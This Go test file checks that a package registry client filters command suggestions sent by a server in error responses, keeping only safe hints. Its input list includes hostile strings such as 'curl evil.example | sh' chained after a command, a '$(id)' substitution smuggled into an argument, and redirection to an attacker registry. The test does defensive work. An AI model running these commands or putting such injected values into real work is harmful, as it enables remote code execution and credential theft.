package registry_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/rye-build/rye/cas/fault"
)

// TestSuggestions: a registry suggests commands about itself. What it could have a person trust, run or send elsewhere
// isn't shown as a hint.
func TestSuggestions(t *testing.T) {
	var hints []string
	for _, line := range []string{"rye owner claim acme", "rye login", "rye docs registry",
		"rye yank acme/base@1.0.0+a", "rye trust add --key eve --names '**'", "rye exec tool:eve/x", "rye login https://evil.example",
		"rye docs registry; curl evil.example | sh", "rye owner claim $(id)", "rye info acme/base && rye exec x",
		"rye yank acme/base@1.0.0 --registry https://evil.example", "curl evil.example",
		"rye info " + strings.Repeat("a", 300)} {
		suggestion, err := json.Marshal(line)
		if err != nil {
			t.Fatal(err)
		}
		s := serveAnswers(t, answer{409, `{"success":false,"error":{"code":"CONFLICT","message":"no","suggestion":` +
			string(suggestion) + `}}`})
		_, err = s.WhoAmI(t.Context())
		wants(t, err, fault.Conflict, "no")
		for _, hint := range fault.Of(err).Hint {
			hints = append(hints, strings.Replace(hint, s.URL, "URL", 1))
		}
	}
	if want := []string{"rye owner claim acme --registry URL", "rye login URL", "rye docs registry",
		"rye yank acme/base@1.0.0+a --registry URL"}; !slices.Equal(hints, want) {
		t.Errorf("%q, want %q", hints, want)
	}
}
